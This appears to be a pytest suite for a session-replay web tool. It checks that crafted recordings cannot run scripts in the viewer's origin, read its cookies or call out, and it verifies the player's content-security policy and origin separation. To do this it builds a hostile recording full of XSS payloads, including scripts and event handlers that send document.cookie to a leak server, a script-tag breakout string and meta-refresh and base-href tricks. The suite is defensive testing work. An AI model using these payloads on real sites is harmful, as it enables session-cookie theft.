"""What a recording may not do in the UI: run a script in the UI's origin, reach its cookies or
DOM, or call out; the player document's own policy, and the origin it is served from.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
from collector_helpers import TEAM, ThreadServer, team_get
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route
from ui_sessions_helpers import T0, serve_recorded_visits, shot

from plumbing.store import SessionStore

from recorder import record
from sessionheat.web import create_app


@pytest.fixture(scope="module")
def ui(tmp_path_factory: pytest.TempPathFactory, browser: Any, demo_server: Any,
       asset_server: Any) -> Iterator[dict[str, Any]]:
    """A store with two recorded visits and some synthetic sessions, served by the real app."""
    with serve_recorded_visits(tmp_path_factory.mktemp("ui"), browser, demo_server, asset_server) as served:
        yield served


class LeakCatcher:
    """A loopback server that records every request it gets: nothing recorded may reach it."""

    def __init__(self) -> None:
        self.requests: list[str] = []

        async def anything(request: Request) -> Response:
            self.requests.append(str(request.url))
            return Response("", media_type="image/gif")

        self.server = ThreadServer(Starlette(routes=[Route("/{path:path}", anything)]))
        self.url = self.server.url


def hostile_events(t0: int, leak: str) -> list[dict]:
    """A crafted recording (anyone with a site key can send one) whose page tries to break out."""
    payload = (
        "window.__ran = 'script';"
        "try { window.top.__pwned = 'script:' + window.top.document.cookie } catch (e) {}"
        "try { window.parent.document.body.setAttribute('data-pwned', 'script') } catch (e) {}"
        "try { window.top.document.title = 'pwned' } catch (e) {}"
        f"try {{ new Image().src = '{leak}/leak?script=' + encodeURIComponent(document.cookie) }} catch (e) {{}}"
        f"try {{ fetch('{leak}/leak?fetch=1', {{mode: 'no-cors'}}) }} catch (e) {{}}"
    )
    handler = payload.replace("'script", "'handler")
    html = {"type": 2, "tagName": "html", "attributes": {}, "id": 2, "childNodes": [
        {"type": 2, "tagName": "head", "attributes": {}, "id": 3, "childNodes": [
            {"type": 2, "tagName": "script", "attributes": {}, "id": 4, "childNodes": [
                {"type": 3, "textContent": payload, "id": 5}]},
            {"type": 2, "tagName": "meta", "attributes": {"http-equiv": "refresh",
                                                          "content": f"0;url={leak}/leak?meta=1"},
             "id": 13, "childNodes": []},
            {"type": 2, "tagName": "link", "attributes": {"rel": "stylesheet", "href": f"{leak}/leak?css=1"},
             "id": 14, "childNodes": []},
            {"type": 2, "tagName": "base", "attributes": {"href": f"{leak}/"}, "id": 15, "childNodes": []},
        ]},
        {"type": 2, "tagName": "body", "attributes": {"onload": handler}, "id": 6, "childNodes": [
            {"type": 2, "tagName": "h1", "attributes": {"id": "title"}, "id": 7, "childNodes": [
                {"type": 3, "textContent": "Hostile page </script><script>window.top.__pwned='breakout'</script>",
                 "id": 8}]},
            {"type": 2, "tagName": "img", "attributes": {"src": f"{leak}/leak?img=1", "onerror": handler},
             "id": 9, "childNodes": []},
            {"type": 2, "tagName": "button", "attributes": {"onclick": handler, "id": "grab"}, "id": 10,
             "childNodes": [{"type": 3, "textContent": "Grab", "id": 11}]},
            {"type": 2, "tagName": "iframe", "attributes": {"srcdoc": f"<script>{payload}</script>"},
             "id": 12, "childNodes": []},
        ]},
    ]}
    doc = {"type": 0, "childNodes": [html], "id": 1}
    return [
        {"type": 4, "timestamp": t0, "data": {"href": "http://hostile.invalid/page", "width": 1000, "height": 700}},
        {"type": 2, "timestamp": t0 + 1, "data": {"node": doc, "initialOffset": {"left": 0, "top": 0}}},
        {"type": 3, "timestamp": t0 + 500, "data": {"source": 2, "type": 2, "id": 10, "x": 20, "y": 60}},
        {"type": 3, "timestamp": t0 + 2000, "data": {"source": 2, "type": 2, "id": 10, "x": 20, "y": 60}},
    ]


def test_a_recorded_script_cannot_run_in_the_ui_origin(browser: Any, store: SessionStore,
                                                       asset_server: Any) -> None:
    catcher = LeakCatcher()
    try:
        crafted, _ = store.import_events(hostile_events(T0, catcher.url), session_id="hostile-crafted",
                                         properties={"note": "<img src=x onerror=window.__pwned='prop'>"})
        with record(asset_server.url("ui_hostile.html") + f"?leak={catcher.url}", store=store,
                    browser=browser) as s:
            s.page.click("#grab")
            s.page.wait_for_timeout(300)
        recorded = s.id
        catcher.requests.clear()  # the live page may call out while recorded; replays may not
        with ThreadServer(create_app(store)) as server:
            context = browser.new_context(extra_http_headers=TEAM, viewport={"width": 1400, "height": 900})
            context.add_cookies([{"name": "ui_secret", "value": "c00kie-of-the-ui", "url": server.url}])
            try:
                page = context.new_page()
                page.goto(server.url + "/sessions")
                assert page.locator("td.props img").count() == 0  # properties are text
                for sid in (crafted, recorded):
                    page.goto(f"{server.url}/sessions/{sid}")
                    assert "c00kie-of-the-ui" in page.evaluate("document.cookie")  # the UI has it
                    page.wait_for_selector("#player[data-ready=true]")
                    player = page.frame_locator("#player")
                    player.locator(".rr-controller__btns button").first.click()  # play it all
                    page.wait_for_function(
                        "() => Number(document.getElementById('player-time').dataset.t) >="
                        " 0.9 * Number(document.getElementById('player').dataset.duration)")
                    page.wait_for_timeout(300)
                    shot(page, "session-hostile-crafted" if sid == crafted else "session-hostile-recorded")
                    assert page.evaluate("window.__pwned") is None
                    assert page.evaluate("document.body.dataset.pwned") is None
                    assert page.title() != "pwned"
                    ran = []
                    for frame in page.frames:
                        try:
                            ran.append(frame.evaluate("() => window.__ran || null"))
                        except Exception:  # noqa: BLE001 - a frame without scripts may refuse
                            ran.append(None)
                    assert ran == [None] * len(ran), ran
                    # The player lives in an origin of its own: no UI cookie, no way into the UI's DOM.
                    player_frame = next(f for f in page.frames if f.url.startswith("http://sessionheat-player."))
                    assert player_frame.evaluate("origin") != server.url
                    assert "c00kie" not in player_frame.evaluate("document.cookie")
                    assert player_frame.evaluate(
                        "() => { try { return parent.document.title } catch (e) { return 'blocked' } }") == "blocked"
                    # The recording is rebuilt in an iframe where scripts are off.
                    sandbox = player.locator(".replayer-wrapper iframe").get_attribute("sandbox")
                    assert sandbox is not None and "allow-scripts" not in sandbox
                # Opened directly and played to the end, the player document runs nothing recorded.
                page.goto(f"{server.url}/sessions/{crafted}/player")
                page.wait_for_function("() => window.sessionPlayer !== undefined")
                page.evaluate("window.sessionPlayer.goto(2000, false)")
                page.wait_for_timeout(300)
                assert [f.evaluate("() => window.__ran || window.__pwned || null") for f in page.frames] \
                    == [None] * len(page.frames)
            finally:
                context.close()
        assert not [r for r in catcher.requests if "cookie" in r or "c00kie" in r]
        assert catcher.requests == [], catcher.requests
    finally:
        catcher.server.close()


def test_player_document_is_sandboxed_and_json_is_escaped(ui: dict[str, Any]) -> None:
    sid = ui["ids"]["plain"]
    r = team_get(f"{ui['url']}/sessions/{sid}/player")
    csp = r.headers["content-security-policy"]
    assert re.search(r"script-src 'nonce-[^']+'(;|$)", csp) and "unsafe-inline' " not in csp.split("script-src")[1].split(";")[0]
    assert "connect-src 'none'" in csp and "frame-ancestors 'self'" in csp and "form-action 'none'" in csp
    assert team_get(f"{ui['url']}/sessions/nope-nope-nope").status_code == 404
    assert team_get(f"{ui['url']}/sessions/nope-nope-nope/events.json").status_code == 404
    assert re.search(r"<script(?![^>]*(nonce|application/json))", r.text) is None
    assert "Annotation: deploy" in team_get(f"{ui['url']}/sessions/{sid}").text
    # A session that has not sent an event yet is not listed, and its page says there is nothing.
    ui["store"].create_session("no-events-yet")
    empty = team_get(f"{ui['url']}/sessions/no-events-yet")
    assert empty.status_code == 200 and "Nothing to replay" in empty.text
    assert "no-events-yet" not in team_get(f"{ui['url']}/sessions").text
    # An indexed session's clicks carry the index's labels and rage / dead flags.
    rage_page = team_get(f"{ui['url']}/sessions/{ui['ids']['rage']}").text
    assert rage_page.count('data-kind="rage"') == 3 and "Click on “Buy”" in rage_page
    assert 'data-kind="dead"' in team_get(f"{ui['url']}/sessions/{ui['ids']['dead']}").text


def test_the_player_origin_is_apart_from_the_ui_when_it_can_be(ui: dict[str, Any],
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    sid, port = ui["ids"]["plain"], ui["url"].rsplit(":", 1)[1]
    local = team_get(f"{ui['url']}/sessions/{sid}")
    player = f"http://sessionheat-player.localhost:{port}"
    assert f'src="{player}/sessions/{sid}/player?t=0&amp;ui=' in local.text
    assert f"frame-src 'self' {player}" in local.headers["content-security-policy"]
    framed = team_get(f"{ui['url']}/sessions/{sid}/player", params={"ui": ui["url"]},
                       headers={"host": f"sessionheat-player.localhost:{port}"})
    assert f"frame-ancestors {ui['url']}" in framed.headers["content-security-policy"]
    # A UI reached by a name the server cannot split from: the player stays in the UI's origin.
    remote = team_get(f"{ui['url']}/sessions/{sid}", headers={"host": "tools.example"})
    assert f'src="/sessions/{sid}/player?t=0"' in remote.text
    assert "frame-src 'self';" in remote.headers["content-security-policy"]
    # Unless a second name for the same server is configured.
    monkeypatch.setenv("SESSIONHEAT_PLAYER_ORIGIN", "http://player.tools.example")
    monkeypatch.setenv("SESSIONHEAT_UI_ORIGIN", "http://tools.example")  # the UI the player accepts
    configured = team_get(f"{ui['url']}/sessions/{sid}", headers={"host": "tools.example"})
    assert f'src="http://player.tools.example/sessions/{sid}/player?t=0&amp;ui=http' in configured.text
    monkeypatch.setenv("SESSIONHEAT_PLAYER_ORIGIN", "self")
    assert f'src="/sessions/{sid}/player?t=0"' in team_get(f"{ui['url']}/sessions/{sid}").text
